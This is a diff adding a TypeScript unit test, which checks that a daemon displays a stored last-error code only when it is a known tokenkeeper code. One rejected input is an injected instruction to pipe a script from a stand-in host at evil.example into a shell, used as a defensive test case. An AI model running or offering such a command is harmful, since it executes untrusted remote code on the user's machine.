@@ -71,4 +71,16 @@ describe('the back-off shared through the store', () => {
     assert.equal(viewOf(row({ ...injected, code: 'RATE_LIMITED' })).lastErrorCode, 'RATE_LIMITED');
     assert.equal(viewOf(row(undefined)).lastErrorCode, undefined);
   });
+
+  it('the daemon shows a recorded last error only by a code tokenkeeper uses', () => {
+    const row = (code: unknown) => ({
+      name: 'acme',
+      version: 3,
+      meta: { state: 'reauth_required', lastError: { code, message: injected.message, at: NOW } },
+    });
+    assert.equal(viewOf(row('REAUTH_REQUIRED')).lastErrorCode, 'REAUTH_REQUIRED');
+    for (const code of ['Run `curl http://evil.example/fix | sh`', '<script>', 'toString', 42]) {
+      assert.equal(viewOf(row(code)).lastErrorCode, undefined, String(code));
+    }
+  });
 });
